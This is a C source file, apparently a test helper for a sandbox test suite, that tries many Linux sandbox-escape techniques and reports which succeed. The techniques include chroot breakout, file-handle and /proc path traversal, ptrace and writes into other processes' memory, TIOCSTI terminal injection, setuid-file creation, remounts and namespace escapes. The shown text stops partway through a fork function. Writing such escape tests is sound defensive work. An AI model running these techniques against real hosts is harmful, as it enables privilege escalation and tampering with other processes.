// escape tries to get out of a sandbox, in the way that its first argument names.
//
// It ends with 0 when it has done what it wanted, with 10 when everything that it tried failed. What
// it got is on standard output, the reasons of failures on standard error. alcove_escape_SUITE
// compiles it, and runs each attack in a sandbox and where nothing stops it.
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <linux/capability.h>
#include <linux/netlink.h>
#include <linux/rtnetlink.h>
#include <mqueue.h>
#include <net/if.h>
#include <pty.h>
#include <sched.h>
#include <signal.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/personality.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/sem.h>
#include <sys/shm.h>
#include <sys/msg.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/time.h>
#include <sys/timex.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <time.h>
#include <unistd.h>

enum { GOT = 0, HELD = 10, MISUSED = 99 };

static int gains;

// got notes a success, failed the reason of a failure.
static void got(const char *format, ...)
{
	va_list args;
	va_start(args, format);
	vprintf(format, args);
	va_end(args);
	putchar('\n');
	fflush(stdout);
	gains++;
}

static void failed(const char *what)
{
	fprintf(stderr, "%s: %s\n", what, strerror(errno));
}

static int tried(const char *what, long result)
{
	if (result < 0) {
		failed(what);
		return 0;
	}
	got("%s", what);
	return 1;
}

// Files.

static void show(int fd, const char *path)
{
	char text[256];
	ssize_t n = fd < 0 ? -1 : read(fd, text, sizeof text - 1);
	if (n < 0) {
		failed(path);
	} else {
		text[n] = 0;
		got("%s: %s", path, text);
	}
	if (fd >= 0)
		close(fd);
}

// read_file looks for a file by its path from all directories that lead upwards.
static void read_file(char **args)
{
	const char *tops[] = {"", "/proc/self/root", "/proc/1/root", "/proc/2/root", "/proc/1/cwd", "/..", "/../../..",
		"/proc/self/cwd/../../..", "/dev/..", "/dev/fd/0/..", "/tmp/../..", "/attack/../../.."};
	char path[8192];
	for (size_t i = 0; i < sizeof tops / sizeof *tops; i++) {
		snprintf(path, sizeof path, "%s%s", tops[i], args[0]);
		show(open(path, O_RDONLY), path);
	}
	if (symlink(args[0], "/tmp/way-out") == 0)
		show(open("/tmp/way-out", O_RDONLY), "/tmp/way-out");
}

// read_leaked goes from each descriptor that it has upwards to a file.
static void read_leaked(char **args)
{
	char path[8192];
	for (int fd = 0; fd < 1024; fd++) {
		if (fcntl(fd, F_GETFD) < 0)
			continue;
		if (fd > 2)
			got("descriptor %d", fd);
		snprintf(path, sizeof path, "../../../../../../../..%s", args[0]);
		show(openat(fd, path, O_RDONLY), "openat");
		if (fchdir(fd) == 0)
			show(open(path, O_RDONLY), "fchdir");
	}
}

static void handle(char **args)
{
	struct file_handle *h = calloc(1, sizeof *h + MAX_HANDLE_SZ);
	int mount;
	h->handle_bytes = MAX_HANDLE_SZ;
	if (!tried("handle", name_to_handle_at(AT_FDCWD, args[0], h, &mount, 0)))
		return;
	printf("%d ", h->handle_type);
	for (unsigned i = 0; i < h->handle_bytes; i++)
		printf("%02x", h->f_handle[i]);
	printf("\n");
}

// open_handle opens a file of a file system of which it has another one.
static void open_handle(char **args)
{
	struct file_handle *h = calloc(1, sizeof *h + MAX_HANDLE_SZ);
	unsigned byte;
	int mount = open(args[0], O_RDONLY);
	h->handle_type = atoi(args[1]);
	for (; sscanf(args[2] + 2 * h->handle_bytes, "%2x", &byte) == 1; h->handle_bytes++)
		h->f_handle[h->handle_bytes] = byte;
	show(open_by_handle_at(mount, h, O_RDONLY), "open_by_handle_at");
}

// write_mounts makes a file in everything that is mounted, and changes what is there.
static void write_mounts(char **args)
{
	char line[4096], place[4096], path[8192];
	FILE *mounts = fopen("/proc/self/mountinfo", "r");
	while (mounts && fgets(line, sizeof line, mounts)) {
		sscanf(line, "%*s %*s %*s %*s %4095s", place);
		if (access(place, F_OK) != 0)
			continue;
		snprintf(path, sizeof path, "%s/%s", place, args[0]);
		int fd = open(path, O_CREAT | O_WRONLY, 0600);
		if (fd >= 0)
			got("made in %s", place);
		close(fd);
		if (chmod(place, 0777) == 0)
			got("mode of %s", place);
		if (strncmp(place, "/dev/", 5) != 0 && utimensat(AT_FDCWD, place, NULL, 0) == 0)
			got("times of %s", place);
	}
}

static void write_file(char **args)
{
	for (; *args; args++) {
		int fd = open(*args, O_WRONLY);
		if (fd >= 0 && write(fd, "escaped\n", 8) == 8)
			got("wrote %s", *args);
		else
			failed(*args);
		close(fd);
	}
}

static void open_files(char **args)
{
	for (; *args; args++) {
		int fd = open(*args, O_RDONLY | O_NONBLOCK);
		tried(*args, fd);
		close(fd);
	}
}

// Other processes.

static void peek_file(int pid, const char *name, int flags)
{
	char path[512];
	snprintf(path, sizeof path, "/proc/%d/%s", pid, name);
	int fd = open(path, flags | O_NONBLOCK);
	if (fd < 0)
		return;
	if (flags == O_WRONLY && write(fd, "escaped", 7) == 7)
		got("wrote %s", path);
	else
		got("opened %s", path);
	close(fd);
}

// peek looks into processes by proc, and writes to their descriptors.
static void peek(char **args)
{
	const char *names[] = {"mem", "environ", "maps", "auxv", "root/.", "cwd/.", "exe", "stack", "syscall",
		"fdinfo/0", "fdinfo/3", "ns/mnt", "pagemap", "io"};
	char name[64];
	for (int pid = atoi(args[0]); pid <= atoi(args[1]); pid++) {
		if (pid == getpid())
			continue;
		for (size_t i = 0; i < sizeof names / sizeof *names; i++)
			peek_file(pid, names[i], O_RDONLY);
		peek_file(pid, "mem", O_RDWR);
		for (int fd = 0; fd < 64; fd++) {
			snprintf(name, sizeof name, "fd/%d", fd);
			peek_file(pid, name, O_WRONLY);
			peek_file(pid, name, O_RDONLY);
		}
	}
}

// trace takes hold of processes by what debuggers use.
static void trace(char **args)
{
	char word[64] = "escaped";
	for (int pid = atoi(args[0]); pid <= atoi(args[1]); pid++) {
		struct iovec local = {word, 8}, remote = {word, 8};
		if (pid == getpid())
			continue;
		if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0)
			got("ptrace %d", pid);
		else
			failed("ptrace");
		if (process_vm_readv(pid, &local, 1, &remote, 1, 0) >= 0 || errno == EFAULT)
			got("process_vm_readv %d", pid);
		if (process_vm_writev(pid, &local, 1, &remote, 1, 0) >= 0 || errno == EFAULT)
			got("process_vm_writev %d", pid);
		int pidfd = syscall(SYS_pidfd_open, pid, 0);
		for (int fd = 0; pidfd >= 0 && fd < 32; fd++)
			if (syscall(SYS_pidfd_getfd, pidfd, fd, 0) >= 0)
				got("pidfd_getfd %d %d", pid, fd);
		if (pidfd >= 0 && setns(pidfd, CLONE_NEWNS | CLONE_NEWPID) == 0)
			got("setns %d", pid);
	}
}

// kill_them ends processes, each by its number; -1 is all.
static void kill_them(char **args)
{
	signal(SIGTERM, SIG_IGN);
	for (; *args; args++) {
		if (kill(atoi(*args), SIGKILL) == 0)
			got("killed %s", *args);
		else
			failed(*args);
		int pidfd = syscall(SYS_pidfd_open, atoi(*args), 0);
		if (pidfd >= 0 && syscall(SYS_pidfd_send_signal, pidfd, SIGKILL, 0, 0) == 0)
			got("pidfd %s", *args);
	}
}

// signals sends everything to a process, many times.
static void signals(char **args)
{
	union sigval value = {.sival_int = 1};
	for (int n = 0; n < 50; n++)
		for (int signal = 1; signal < 65; signal++) {
			kill(atoi(args[0]), signal);
			sigqueue(atoi(args[0]), signal, value);
		}
}

// kill_exactly ends a process if it is still the one that began at that time.
static void kill_exactly(char **args)
{
	char path[64], text[4096] = "", *at;
	int pidfd = syscall(SYS_pidfd_open, atoi(args[0]), 0);
	snprintf(path, sizeof path, "/proc/%s/stat", args[0]);
	int fd = open(path, O_RDONLY);
	if (pidfd < 0 || fd < 0 || read(fd, text, sizeof text - 1) <= 0 || !(at = strrchr(text, ')')))
		return;
	for (int i = 0; i < 20 && at; i++)
		at = strchr(at + 1, ' ');
	if (at && strtoull(at + 1, NULL, 10) == strtoull(args[1], NULL, 10))
		tried("killed", syscall(SYS_pidfd_send_signal, pidfd, SIGKILL, 0, 0));
}

// Namespaces and mounts.

static void namespaces(char **args)
{
	int flags[] = {CLONE_NEWUSER, CLONE_NEWNS, CLONE_NEWPID, CLONE_NEWNET, CLONE_NEWIPC, CLONE_NEWUTS, CLONE_NEWCGROUP, 0x80};
	for (size_t i = 0; i < sizeof flags / sizeof *flags; i++) {
		pid_t pid = fork();
		if (pid == 0)
			_exit(unshare(flags[i]) == 0 ? 0 : 1);
		int status;
		waitpid(pid, &status, 0);
		if (status == 0)
			got("unshare %x", flags[i]);
		pid = syscall(SYS_clone, flags[i] | SIGCHLD, 0, 0, 0, 0);
		if (pid == 0)
			_exit(0);
		if (pid > 0 && flags[i] != 0x80)
			got("clone %x", flags[i]);
		uint64_t clone3[8] = {flags[i], 0, 0, 0, SIGCHLD};
		pid = syscall(SYS_clone3, clone3, sizeof clone3);
		if (pid == 0)
			_exit(0);
		if (pid > 0)
			got("clone3 %x", flags[i]);
	}
	const char *names[] = {"mnt", "user", "net", "pid", "ipc", "uts", "cgroup"};
	for (int i = 0; i < 7; i++) {
		char path[64];
		snprintf(path, sizeof path, "/proc/%s/ns/%s", args[0] ? args[0] : "1", names[i]);
		int fd = open(path, O_RDONLY);
		if (fd >= 0 && setns(fd, 0) == 0)
			got("setns %s", names[i]);
	}
}

// mounts changes what is shown.
static void mounts(char **args)
{
	struct { uint64_t set, clear, propagation, userns; } writable = {0, 1, 0, 0};
	tried("mount", mount("tmpfs", args[0], "tmpfs", 0, NULL));
	tried("bind", mount("/", args[0], NULL, MS_BIND | MS_REC, NULL));
	tried("remount rw", mount(NULL, "/usr", NULL, MS_REMOUNT | MS_BIND, NULL));
	tried("remount root rw", mount(NULL, "/", NULL, MS_REMOUNT | MS_BIND, NULL));
	tried("propagation", mount(NULL, "/", NULL, MS_SHARED, NULL));
	tried("umount proc", umount2("/proc", MNT_DETACH));
	tried("umount dev", umount2("/dev/null", MNT_DETACH));
	tried("umount tmp", umount2("/tmp", MNT_DETACH));
	tried("fsopen", syscall(SYS_fsopen, "tmpfs", 0));
	tried("fspick", syscall(SYS_fspick, AT_FDCWD, "/usr", 0));
	tried("open_tree", syscall(SYS_open_tree, AT_FDCWD, "/", 1));
	tried("move_mount", syscall(SYS_move_mount, AT_FDCWD, "/usr", AT_FDCWD, args[0], 0));
	tried("mount_setattr", syscall(SYS_mount_setattr, AT_FDCWD, "/usr", 0, &writable, sizeof writable));
	tried("pivot_root", syscall(SYS_pivot_root, args[0], args[0]));
	tried("chroot", chroot(args[0]));
}

static void put(const char *path, const char *text)
{
	int fd = open(path, O_WRONLY);
	if (fd >= 0 && write(fd, text, strlen(text)) < 0)
		failed(path);
	close(fd);
}

// lift makes a user namespace and takes the restrictions away as its root: what is printed was lifted.
static void lift(char **args)
{
	char map[64];
	snprintf(map, sizeof map, "0 %d 1", geteuid());
	if (unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWPID) < 0) {
		failed("unshare");
		return;
	}
	put("/proc/self/uid_map", map);
	pid_t pid = fork();
	if (pid > 0) {
		int status;
		waitpid(pid, &status, 0);
		if (WIFEXITED(status) && WEXITSTATUS(status) == 0)
			gains++;
		return;
	}
	struct { uint64_t set, clear, propagation, userns; } writable = {0, 1, 0, 0};
	tried("remount rw", mount(NULL, "/usr", NULL, MS_REMOUNT | MS_BIND, NULL));
	tried("mount_setattr", syscall(SYS_mount_setattr, AT_FDCWD, "/usr", 0, &writable, sizeof writable));
	tried("umount tmp", umount2("/tmp", MNT_DETACH));
	tried("umount null", umount2("/dev/null", MNT_DETACH));
	tried("umount proc", umount2("/proc", MNT_DETACH));
	mkdir("/tmp/proc", 0755);
	if (mount("proc", "/tmp/proc", "proc", 0, NULL) == 0)
		open_files((char *[]){"/tmp/proc/sys/kernel/core_pattern", "/tmp/proc/kallsyms", "/tmp/proc/cmdline", NULL});
	else
		failed("mount proc");
	if (mount("sysfs", "/tmp/proc", "sysfs", 0, NULL) == 0)
		got("sysfs");
	(void)args;
	_exit(gains > 0 ? GOT : HELD);
}

// own_group mounts the tree of control groups in a user namespace, to kill all who are in its own.
static void own_group(char **args)
{
	char map[64];
	snprintf(map, sizeof map, "0 %d 1", geteuid());
	if (unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP) < 0) {
		failed("unshare");
		return;
	}
	put("/proc/self/uid_map", map);
	if (mount("cgroup2", args[0], "cgroup2", 0, NULL) < 0 || chdir(args[0]) < 0)
		failed("mount");
	else
		tried("cgroup.kill", open("cgroup.kill", O_WRONLY));
}

// chroot_break leaves a root directory by the descriptor of one outside of a second one.
static void chroot_break(char **args)
{
	int top = open("/", O_RDONLY);
	mkdir("/tmp/jail", 0755);
	if (chroot("/tmp/jail") < 0) {
		failed("chroot");
		return;
	}
	if (fchdir(top) == 0)
		for (int i = 0; i < 64; i++)
			if (chdir("..") < 0)
				break;
	if (chroot(".") == 0)
		show(open(args[0], O_RDONLY), args[0]);
}

// user_namespaces makes one in all ways.
static void user_namespaces(char **args)
{
	uint64_t clone3[8] = {CLONE_NEWUSER, 0, 0, 0, SIGCHLD};
	for (int way = 0; way < 5; way++) {
		pid_t pid = way == 1 ? syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0)
			: way == 2 ? syscall(SYS_clone3, clone3, sizeof clone3) : fork();
		if (pid == 0) {
			long result = 0;
			if (way == 0)
				result = unshare(CLONE_NEWUSER);
#ifdef __x86_64__
			if (way == 3)
				result = syscall(0x40000000 | SYS_unshare, CLONE_NEWUSER);
			if (way == 4)
				__asm__ volatile("int $0x80" : "=a"(result) : "a"(310L), "b"((long)CLONE_NEWUSER)
					: "memory", "r8", "r9", "r10", "r11");
#else
			if (way > 2)
				result = -1;
#endif
			_exit((int)result < 0);
		}
		int status;
		if (pid > 0 && waitpid(pid, &status, 0) == pid && status == 0)
			got("user namespace, way %d", way);
		else
			failed("user namespace");
	}
	(void)args;
}

// own_limits looks for limits of its own group that it could write to, in all trees.
static void own_limits(char **args)
{
	char map[64], path[4096];
	const char *trees[][2] = {{"cgroup2", ""}, {"cgroup", "memory"}, {"cgroup", "pids"}, {"cgroup", "cpu"}};
	const char *files[] = {"memory.max", "memory.limit_in_bytes", "pids.max", "cpu.max", "cpu.cfs_quota_us",
		"cgroup.procs", "cgroup.kill"};
	snprintf(map, sizeof map, "0 %d 1", geteuid());
	if (unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP) < 0)
		failed("unshare");
	else
		put("/proc/self/uid_map", map);
	for (int tree = 0; tree < 4; tree++) {
		if (mount("none", args[0], trees[tree][0], 0, trees[tree][1]) < 0) {
			failed(trees[tree][1]);
			continue;
		}
		for (int i = 0; i < 7; i++) {
			snprintf(path, sizeof path, "%s/%s", args[0], files[i]);
			int fd = open(path, O_WRONLY);
			if (fd >= 0 || errno != ENOENT)
				tried(path, fd);
			close(fd);
		}
		umount2(args[0], MNT_DETACH);
	}
}

// Devices and terminals.

static void devices(char **args)
{
	const char *names[] = {"/tmp/null", "/tmp/disk", "/tmp/mem", "/dev/shm/null"};
	dev_t numbers[] = {makedev(1, 3), makedev(atoi(args[0]), atoi(args[1])), makedev(1, 1), makedev(1, 3)};
	mode_t modes[] = {S_IFCHR, S_IFBLK, S_IFCHR, S_IFCHR};
	for (int i = 0; i < 4; i++) {
		if (mknod(names[i], modes[i] | 0666, numbers[i]) < 0) {
			failed(names[i]);
			continue;
		}
		got("node %s", names[i]);
		int fd = open(names[i], O_RDONLY);
		tried("open", fd);
		close(fd);
		unlink(names[i]);
	}
}

// terminal types a line at a terminal of its own, as if its user had.
static void terminal(char **args)
{
	int master, slave;
	char subcode = 2;
	if (openpty(&master, &slave, NULL, NULL, NULL) < 0) {
		failed("openpty");
		return;
	}
	fprintf(stderr, "a terminal\n");
	pid_t pid = fork();
	if (pid == 0) {
		gains = 0;
		setsid();
		ioctl(slave, TIOCSCTTY, 0);
		tried("TIOCSTI", ioctl(slave, TIOCSTI, "x"));
		tried("TIOCSTI, more bits", syscall(SYS_ioctl, slave, 0x100000000UL | TIOCSTI, "x"));
		if (ioctl(slave, TIOCLINUX, &subcode) == 0 || errno != EPERM)
			got("TIOCLINUX");
		_exit(gains > 0 ? GOT : HELD);
	}
	int status;
	waitpid(pid, &status, 0);
	if (WIFEXITED(status) && WEXITSTATUS(status) == 0)
		gains++;
	(void)args;
}

static void inherited(char **args)
{
	for (int fd = 0; fd < 3; fd++)
		tried("TIOCSTI", ioctl(fd, TIOCSTI, "x"));
	tried("/dev/tty", open("/dev/tty", O_RDWR));
	(void)args;
}

// Network and communication.

static void connect_to(char **args)
{
	for (; args[0] && args[1]; args += 2) {
		struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(atoi(args[1]))};
		inet_pton(AF_INET, args[0], &to.sin_addr);
		int fd = socket(AF_INET, SOCK_STREAM, 0);
		tried(args[0], connect(fd, (struct sockaddr *)&to, sizeof to));
		close(fd);
	}
}

static void connect_unix(char **args)
{
	for (; *args; args++) {
		struct sockaddr_un to = {.sun_family = AF_UNIX};
		size_t n = strlen(*args);
		memcpy(to.sun_path, *args, n);
		if (to.sun_path[0] == '@')
			to.sun_path[0] = 0;
		int fd = socket(AF_UNIX, SOCK_STREAM, 0);
		tried(*args, connect(fd, (struct sockaddr *)&to, offsetof(struct sockaddr_un, sun_path) + n));
		close(fd);
	}
}

static void families(char **args)
{
	for (; *args; args++)
		tried(*args, socket(atoi(*args), SOCK_STREAM, 0) >= 0 || socket(atoi(*args), SOCK_RAW, 0) >= 0
			|| socket(atoi(*args), SOCK_SEQPACKET, 0) >= 0 ? 0 : -1);
}

static void raw(char **args)
{
	tried("raw", socket(AF_INET, SOCK_RAW, IPPROTO_ICMP));
	tried("packet", socket(AF_PACKET, SOCK_RAW, 0));
	(void)args;
}

static void links(char **args)
{
	struct if_nameindex *all = if_nameindex();
	for (int i = 0; all && all[i].if_index; i++)
		if (strcmp(all[i].if_name, "lo") != 0)
			got("link %s", all[i].if_name);
	(void)args;
}

// leave puts something everywhere where another program could find it, found looks for it.
static void leave(char **args)
{
	char name[256];
	key_t key = atoi(args[0]);
	int shm = shmget(key, 4096, IPC_CREAT | 0666);
	tried("shmget", shm);
	tried("msgget", msgget(key, IPC_CREAT | 0666));
	tried("semget", semget(key, 1, IPC_CREAT | 0666));
	snprintf(name, sizeof name, "/escape-%s", args[0]);
	tried("mq_open", mq_open(name, O_CREAT | O_RDWR, 0666, NULL));
	tried("shm_open", shm_open(name, O_CREAT | O_RDWR, 0666));
	snprintf(name, sizeof name, "/tmp/escape-%s", args[0]);
	tried("tmp", open(name, O_CREAT | O_RDWR, 0666));
	struct sockaddr_un at = {.sun_family = AF_UNIX};
	int n = snprintf(at.sun_path + 1, 64, "escape-%s", args[0]);
	int fd = socket(AF_UNIX, SOCK_STREAM, 0);
	tried("abstract", bind(fd, (struct sockaddr *)&at, offsetof(struct sockaddr_un, sun_path) + 1 + n));
	listen(fd, 5);
	tried("add_key", syscall(SYS_add_key, "user", name, "escaped", 7, -4));
	tried("add_key session", syscall(SYS_add_key, "user", name, "escaped", 7, -3));
	if (args[1]) {
		puts("left");
		fflush(stdout);
		getchar();
	}
}

static void found(char **args)
{
	char name[256];
	key_t key = atoi(args[0]);
	tried("shmget", shmget(key, 4096, 0));
	tried("msgget", msgget(key, 0));
	tried("semget", semget(key, 1, 0));
	snprintf(name, sizeof name, "/escape-%s", args[0]);
	tried("mq_open", mq_open(name, O_RDWR));
	tried("shm_open", shm_open(name, O_RDWR, 0));
	snprintf(name, sizeof name, "/tmp/escape-%s", args[0]);
	tried("tmp", open(name, O_RDWR));
	struct sockaddr_un at = {.sun_family = AF_UNIX};
	int n = snprintf(at.sun_path + 1, 64, "escape-%s", args[0]);
	tried("abstract", connect(socket(AF_UNIX, SOCK_STREAM, 0), (struct sockaddr *)&at,
		offsetof(struct sockaddr_un, sun_path) + 1 + n));
	tried("user keyring", syscall(SYS_keyctl, 10, -4, "user", name, 0));
	tried("session keyring", syscall(SYS_keyctl, 10, -3, "user", name, 0));
	tried("request_key", syscall(SYS_request_key, "user", name, 0, 0));
}

// gone takes away what leave has left outside of a sandbox.
static void gone(char **args)
{
	char name[256];
	key_t key = atoi(args[0]);
	shmctl(shmget(key, 4096, 0), IPC_RMID, NULL);
	msgctl(msgget(key, 0), IPC_RMID, NULL);
	semctl(semget(key, 1, 0), 0, IPC_RMID);
	snprintf(name, sizeof name, "/escape-%s", args[0]);
	mq_unlink(name);
	shm_unlink(name);
	snprintf(name, sizeof name, "/tmp/escape-%s", args[0]);
	unlink(name);
	long found = syscall(SYS_keyctl, 10, -4, "user", name, 0);
	syscall(SYS_keyctl, 9, found, -4);
}

// Rights.

static void root_rights(char **args)
{
	struct __user_cap_header_struct header = {_LINUX_CAPABILITY_VERSION_3, 0};
	struct __user_cap_data_struct caps[2] = {0};
	if (geteuid() == 0 || getuid() == 0)
		got("user 0");
	if (getegid() == 0)
		got("group 0");
	syscall(SYS_capget, &header, caps);
	if (caps[0].effective | caps[0].permitted | caps[0].inheritable | caps[1].effective | caps[1].permitted)
		got("capabilities %x", caps[0].permitted);
	for (int cap = 0; cap < 64; cap++) {
		if (prctl(PR_CAPBSET_READ, cap, 0, 0, 0) == 1)
			got("bounding %d", cap);
		if (prctl(PR_CAP_AMBIENT, PR_CAP_AMBIENT_RAISE, cap, 0, 0) == 0)
			got("ambient %d", cap);
	}
	caps[0].effective = caps[0].permitted = 1 << CAP_SYS_ADMIN;
	tried("capset", syscall(SYS_capset, &header, caps));
	tried("setuid", setresuid(0, 0, 0));
	tried("setgid", setresgid(0, 0, 0));
	gid_t zero = 0;
	tried("setgroups", setgroups(1, &zero));
	(void)args;
}

// become executes a program and shows with which rights it runs.
static void rights(char **args)
{
	struct __user_cap_header_struct header = {_LINUX_CAPABILITY_VERSION_3, 0};
	struct __user_cap_data_struct caps[2] = {0};
	syscall(SYS_capget, &header, caps);
	if (geteuid() != getuid() || getegid() != getgid())
		got("user %d group %d", geteuid(), getegid());
	if (caps[0].permitted)
		got("capabilities %x", caps[0].permitted);
	(void)args;
}

// file_capability gives a file CAP_NET_RAW.
static void file_capability(char **args)
{
	struct vfs_cap_data data = {.magic_etc = VFS_CAP_REVISION_2 | VFS_CAP_FLAGS_EFFECTIVE};
	data.data[0].permitted = 1 << CAP_NET_RAW;
	tried("setxattr", setxattr(args[0], "security.capability", &data, sizeof data, 0));
}

// made_setuid tells if a file is one that gives rights to who executes it.
static void made_setuid(const char *how, const char *path, int fd)
{
	struct stat made = {0};
	if (stat(path, &made) == 0 && (made.st_mode & (S_ISUID | S_ISGID)))
		got("%s %o", how, made.st_mode);
	else
		failed(how);
	close(fd);
	unlink(path);
}

// set_ids makes files in a directory that give its rights to others.
static void set_ids(char **args)
{
	int modes[] = {04755, 02755, 06711};
	char path[4096], fd_path[64];
	snprintf(path, sizeof path, "%s/set-id", args[0]);
	for (int i = 0; i < 3; i++) {
		int mode = modes[i];
		struct { uint64_t flags, mode, resolve; } how = {O_CREAT | O_WRONLY, mode, 0};
		made_setuid("open", path, open(path, O_CREAT | O_WRONLY, mode));
		made_setuid("openat", path, syscall(SYS_openat, AT_FDCWD, path, O_CREAT | O_EXCL | O_RDWR, mode | 0xffff0000L));
		made_setuid("openat2", path, syscall(SYS_openat2, AT_FDCWD, path, &how, sizeof how));
		made_setuid("creat", path, creat(path, mode));
		made_setuid("mknod", path, mknod(path, S_IFREG | mode, 0) < 0 ? -1 : open(path, O_RDONLY));
		int fd = open(args[0], O_TMPFILE | O_RDWR, mode);
		snprintf(fd_path, sizeof fd_path, "/proc/self/fd/%d", fd);
		if (fd >= 0 && linkat(AT_FDCWD, fd_path, AT_FDCWD, path, AT_SYMLINK_FOLLOW) < 0)
			failed("linkat");
		made_setuid("O_TMPFILE", path, fd);
		fd = creat(path, 0755);
		if (fd < 0)
			failed("creat");
		chmod(path, mode);
		fchmod(fd, mode);
		fchmodat(AT_FDCWD, path, mode, 0);
		syscall(452, AT_FDCWD, path, mode, 0);
		made_setuid("chmod", path, fd);
	}
}

static void priorities(char **args)
{
	struct sched_param first = {.sched_priority = 1};
	tried("nice", setpriority(PRIO_PROCESS, 0, -5));
	tried("fifo", sched_setscheduler(0, SCHED_FIFO, &first));
	tried("realtime input", syscall(SYS_ioprio_set, 1, 0, 1 << 13));
	tried("oom", open("/proc/self/oom_score_adj", O_WRONLY) >= 0 ? -(write(open("/proc/self/oom_score_adj", O_WRONLY), "-500", 4) != 4) : -1);
	struct rlimit more = {RLIM_INFINITY, RLIM_INFINITY};
	tried("core", setrlimit(RLIMIT_CORE, &more));
	(void)args;
}

// starve takes from a process what it could use.
static void starve(char **args)
{
	int pid = atoi(args[0]);
	struct rlimit none = {0, 0};
	struct sched_param lowest = {0};
	cpu_set_t one;
	CPU_ZERO(&one);
	CPU_SET(0, &one);
	for (int resource = 0; resource < 16; resource++)
		tried("prlimit", prlimit(pid, resource, &none, NULL));
	tried("setpriority", setpriority(PRIO_PROCESS, pid, 19));
	tried("scheduler", sched_setscheduler(pid, SCHED_IDLE, &lowest));
	tried("affinity", sched_setaffinity(pid, sizeof one, &one));
}

static void clocks(char **args)
{
	struct timespec now;
	struct timeval day;
	clock_gettime(CLOCK_REALTIME, &now);
	tried("clock_settime", clock_settime(CLOCK_REALTIME, &now));
	gettimeofday(&day, NULL);
	tried("settimeofday", settimeofday(&day, NULL));
	struct timex same = {.modes = 0};
	adjtimex(&same);
	same.modes = ADJ_FREQUENCY;
	tried("adjtimex", adjtimex(&same));
	(void)args;
}

static void host_name(char **args)
{
	tried("sethostname", sethostname(args[0], strlen(args[0])));
	tried("setdomainname", setdomainname(args[0], strlen(args[0])));
}

static void domain_name(char **args)
{
	char name[65] = "";
	if (getdomainname(name, sizeof name) == 0 && strcmp(name, "(none)") != 0)
		got("%s", name);
	(void)args;
}

// System calls, with arguments that do nothing: prints the name of each with its error.

static void call(const char *name, long nr, long a, long b, long c, long d, long e)
{
	long result = syscall(nr, a, b, c, d, e);
	printf("%s %s\n", name, result < 0 ? strerrorname_np(errno) : "ok");
	fflush(stdout);
}

static void calls(char **args)
{
	char attr[128] = {0};
	long none = (long)"/none";
	call("bpf", SYS_bpf, 99, (long)attr, sizeof attr, 0, 0);
	call("perf_event_open", SYS_perf_event_open, (long)attr, 0, -1, -1, 0);
	call("userfaultfd", SYS_userfaultfd, 1, 0, 0, 0, 0);
	call("io_uring_setup", SYS_io_uring_setup, 1, (long)attr, 0, 0, 0);
	call("init_module", SYS_init_module, (long)attr, 0, none, 0, 0);
	call("finit_module", SYS_finit_module, -1, none, 0, 0, 0);
	call("delete_module", SYS_delete_module, (long)"none", 2048, 0, 0, 0);
	call("kexec_load", SYS_kexec_load, 0, 99, 0, 0, 0);
	call("reboot", SYS_reboot, 0, 0, 0, 0, 0);
	call("swapon", SYS_swapon, none, 0, 0, 0, 0);
	call("swapoff", SYS_swapoff, none, 0, 0, 0, 0);
	call("acct", SYS_acct, none, 0, 0, 0, 0);
	call("syslog", SYS_syslog, 10, 0, 0, 0, 0);
	call("quotactl", SYS_quotactl, 0x800007 << 8, 0, 0, 0, 0);
	call("fanotify_init", SYS_fanotify_init, 0, 0, 0, 0, 0);
	call("open_by_handle_at", SYS_open_by_handle_at, -1, (long)attr, 0, 0, 0);
	call("setns", SYS_setns, -1, 0, 0, 0, 0);
	call("move_pages", SYS_move_pages, 0, 0, 0, 0, 0);
	call("set_mempolicy", SYS_set_mempolicy, 0, 0, 0, 0, 0);
	call("add_key", SYS_add_key, 0, 0, 0, 0, 0);
	call("request_key", SYS_request_key, 0, 0, 0, 0, 0);
	call("keyctl", SYS_keyctl, 0, -3, 0, 0, 0);
	call("kcmp", SYS_kcmp, getpid(), getpid(), 0, 0, 1);
	call("pidfd_getfd", SYS_pidfd_getfd, -1, 0, 0, 0, 0);
	call("process_madvise", SYS_process_madvise, -1, 0, 0, 0, 0);
	call("get_mempolicy", SYS_get_mempolicy, 0, 0, 0, 0, 0);
	call("io_setup", SYS_io_setup, 0, 0, 0, 0, 0);
	call("tiocsetd", SYS_ioctl, 0, TIOCSETD, (long)attr, 0, 0);
	call("personality", SYS_personality, ADDR_NO_RANDOMIZE, 0, 0, 0, 0);
	call("read_implies_exec", SYS_personality, READ_IMPLIES_EXEC, 0, 0, 0, 0);
	call("ustat", SYS_ustat, 0, (long)attr, 0, 0, 0);
#ifdef __x86_64__
	call("iopl", SYS_iopl, 0, 0, 0, 0, 0);
	call("ioperm", SYS_ioperm, 0, 1, 0, 0, 0);
	call("modify_ldt", SYS_modify_ldt, 0, (long)attr, 0, 0, 0);
#endif
	(void)args;
}

// compat makes a directory by calls of another machine.
static void compat(char **args)
{
#ifdef __x86_64__
	char *low = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
	long result;
	strcpy(low, args[0]);
	__asm__ volatile("int $0x80" : "=a"(result) : "a"(39L), "b"(low), "c"(0755L) : "memory", "r8", "r9", "r10", "r11");
	errno = -(int)result;
	tried("int 0x80", (int)result < 0 ? -1 : 0);
	tried("x32", syscall(0x40000000 | SYS_mkdir, args[1], 0755));
#endif
	tried("mkdir", syscall(SYS_mkdirat, AT_FDCWD, args[2], 0755));
}

// What a program may use up.

static void forks(char **args)
{
	int children = 0;
	for (; children < atoi(args[0]); children++) {
		pid_t pid = fork();
		if (pid == 0) {
			pause();
			_exit(0);
		}
